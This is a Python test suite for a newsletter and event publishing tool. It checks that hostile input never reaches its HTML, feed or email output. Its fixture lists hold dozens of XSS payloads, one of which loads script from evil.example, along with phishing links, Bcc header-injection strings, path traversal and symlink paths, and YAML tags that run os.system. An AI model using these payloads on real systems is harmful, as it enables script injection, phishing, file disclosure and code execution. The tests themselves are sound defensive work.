"""Hostile content: XSS in Markdown and front matter, header injection, path traversal, YAML objects."""

from __future__ import annotations

import os
import xml.etree.ElementTree as ET
from email import message_from_bytes, policy
from pathlib import Path

import pytest

from reallabor_mail.content.loader import load_content
from reallabor_mail.errors import ContentError
from reallabor_mail.publish.build import build

from ..conftest import TEMPLATES, TODAY
from .active_content import active_content
from .conftest import Row

XSS_BODY = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
    '<p onclick="alert(1)">x</p>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<isindex action=javascript:alert(1) type=image>",
    "<xss onafterscriptexecute=alert(1)>",
    '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
    '<a href="https://evil.example">https://www.sparkasse.de</a>',
    "[https://www.sparkasse.de/login](https://evil.example/login)",
    '[Link](https://ok.example/"><script>alert(1)</script>)',
]
XSS_FRONT_MATTER = [
    ("title", "<script>alert(1)</script>"),
    ("title", '"><img src=x onerror=alert(1)>'),
    ("kind", "</title><script>alert(1)</script>"),
    ("location", "<svg onload=alert(1)>"),
    ("online_url", "javascript:alert(1)"),
    ("online_url", "data:text/html,<script>alert(1)</script>"),
]
HEADER_FIELDS = ["title", "kind", "location"]

EVENT = """---
title: {title}
kind: {kind}
start: 2030-05-06 14:00
end: 2030-05-06 15:30
format: hybrid
location: {location}
online_url: {online_url}
lists: [reallabor]
---
Beschreibung.

{body}
"""


def quoted(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'


def event_text(body: str = "", **fields: str) -> str:
    values = {"title": "Veranstaltung", "kind": "Test", "location": "Dortmund", "online_url": "https://ok.example/"}
    values.update(fields)
    return EVENT.format(body=body, **{k: quoted(v) for k, v in values.items()})


def scan_build(out: Path) -> dict[str, list[str]]:
    """Active content per output file: HTML pages, email HTML and the HTML parts of every .eml."""
    found: dict[str, list[str]] = {}
    for path in out.rglob("*"):
        if path.suffix == ".html":
            hits = active_content(path.read_text(encoding="utf-8"))
        elif path.suffix == ".xml":  # Atom carries each body as escaped HTML in <content type="html">
            entries = ET.parse(path).getroot().iter("{http://www.w3.org/2005/Atom}content")
            hits = [h for entry in entries for h in active_content(entry.text or "")]
        elif path.suffix == ".eml":
            msg = message_from_bytes(path.read_bytes(), policy=policy.default)
            hits = [
                h
                for part in msg.walk()
                if part.get_content_type() == "text/html"
                for h in active_content(part.get_content())
            ]
        else:
            continue
        if hits:
            found[str(path.relative_to(out))] = hits
    return found


def build_until_clean(
    content: Path, out: Path, originals: dict[str, str] | None = None
) -> tuple[set[str], dict[str, list[str]]]:
    """Build; fixtures whose files are refused with a ContentError are removed (a sample file given fixtures gets
    its ``originals`` text back). Returns (refused, findings)."""
    refused: set[str] = set()
    originals = originals or {}
    while True:
        try:
            build(content, TEMPLATES, out, today=TODAY)
            return refused, scan_build(out)
        except ContentError as exc:
            bad = {Path(p.path).name for p in exc.problems}
            assert bad - refused, f"errors not tied to a fixture: {exc}"
            for name in bad:
                if name in originals:
                    (content / "newsletters" / name).write_text(originals[name], encoding="utf-8")
                else:
                    (content / "events" / name).unlink(missing_ok=True)
            refused |= bad


def test_xss_fixtures_never_reach_an_output(content_copy: Path, tmp_path: Path, row: Row) -> None:
    files = {}
    for i, fixture in enumerate(XSS_BODY):
        name = f"2030-05-06-xss-body-{i:02d}.md"
        (content_copy / "events" / name).write_text(event_text(fixture), encoding="utf-8")
        files[name] = fixture
    for i, (key, value) in enumerate(XSS_FRONT_MATTER):
        name = f"2030-05-06-xss-front-{i:02d}.md"
        (content_copy / "events" / name).write_text(event_text(**{key: value}), encoding="utf-8")
        files[name] = f"{key}: {value}"
    newsletter = content_copy / "newsletters" / "2024-1.md"
    original = newsletter.read_text(encoding="utf-8")
    newsletter.write_text(original + "\n\n## Test\n\n" + "\n\n".join(XSS_BODY[:-3]), encoding="utf-8")
    refused, findings = build_until_clean(content_copy, tmp_path / "out", {newsletter.name: original})
    row(
        "Hostile content",
        f"{len(files)} XSS fixtures in Markdown and front matter (+ all body fixtures in one newsletter): "
        f"active content in any HTML page, email or .eml part",
        len(files),
        len(findings),
        f"{len(refused)} refused at validation, the rest sanitised",
    )
    assert len(files) >= 40
    assert findings == {}


def test_header_bound_fields_refuse_line_breaks(content_copy: Path, row: Row) -> None:
    cases = [(field, char) for field in HEADER_FIELDS for char in ("\\r", "\\n", "\\0")]
    for i, (field, char) in enumerate(cases):
        text = event_text(**{field: "Einladung{MARK}Bcc: victim@example.org"}).replace("{MARK}", char)
        (content_copy / "events" / f"2030-05-0{i % 9}-inject-{i:02d}.md").write_text(text, encoding="utf-8")
    with pytest.raises(ContentError) as info:
        load_content(content_copy)
    refused = {p.path for p in info.value.problems if "-inject-" in p.path and "single line" in p.message}
    row(
        "Hostile content",
        "CR, LF and NUL in the header-bound fields title, kind, location",
        len(cases),
        len(cases) - len(refused),
    )
    assert len(refused) == len(cases), info.value


def test_path_traversal_and_symlinks_in_images(content_copy: Path, tmp_path: Path, row: Row) -> None:
    secret = tmp_path / "secret.png"
    secret.write_bytes((content_copy / "images" / "austausch-2023-09.png").read_bytes())
    os.symlink(secret, content_copy / "images" / "link.png")
    attempts = [
        "../secret.png",
        "images/../../secret.png",
        str(secret),
        "images/link.png",
        "images/%2e%2e/%2e%2e/secret.png",
        "images\\..\\..\\secret.png",
    ]
    refused = 0
    for i, src in enumerate(attempts):
        (content_copy / "events" / f"2030-05-0{i}-img.md").write_text(event_text(f"![Bild]({src})"), encoding="utf-8")
    with pytest.raises(ContentError) as info:
        load_content(content_copy)
    refused = len({p.path for p in info.value.problems if "-img.md" in p.path})
    row(
        "Hostile content",
        "image paths with ../, absolute paths, symlinks out of the folder, encoded dots",
        len(attempts),
        len(attempts) - refused,
    )
    assert refused == len(attempts), info.value


def test_yaml_object_tags_are_refused(content_copy: Path, row: Row) -> None:
    tags = [
        "!!python/object/apply:os.system ['true']",
        "!!python/name:os.system",
        "!!python/object:collections.OrderedDict {}",
        "!!python/object/new:subprocess.Popen [['true']]",
        "!!binary aGVsbG8=",
    ]
    for i, tag in enumerate(tags):
        text = event_text().replace("lists: [reallabor]", f"lists: {tag}")
        (content_copy / "events" / f"2030-05-0{i}-yaml.md").write_text(text, encoding="utf-8")
    with pytest.raises(ContentError) as info:
        load_content(content_copy)
    refused = {p.path for p in info.value.problems if "-yaml.md" in p.path}
    row(
        "Hostile content",
        "YAML tags that construct Python objects (and !!binary) in front matter",
        len(tags),
        len(tags) - len(refused),
    )
    assert len(refused) == len(tags), info.value


def test_oversized_email_is_refused_in_strict(content_copy: Path, tmp_path: Path, row: Row) -> None:
    newsletter = content_copy / "newsletters" / "2024-1.md"
    filler = "\n\n".join("Partnerschaft mit der Ukraine. " * 25 for _ in range(150))
    newsletter.write_text(newsletter.read_text(encoding="utf-8") + "\n\n## Anhang\n\n" + filler, encoding="utf-8")
    with pytest.raises(ContentError) as info:
        build(content_copy, TEMPLATES, tmp_path / "out", strict=True, today=TODAY)
    refused = any("Gmail clips" in p.message for p in info.value.problems)
    row("Hostile content", "newsletter of ~150 KB HTML built with --strict", 1, 0 if refused else 1)
    assert refused and not (tmp_path / "out").exists()
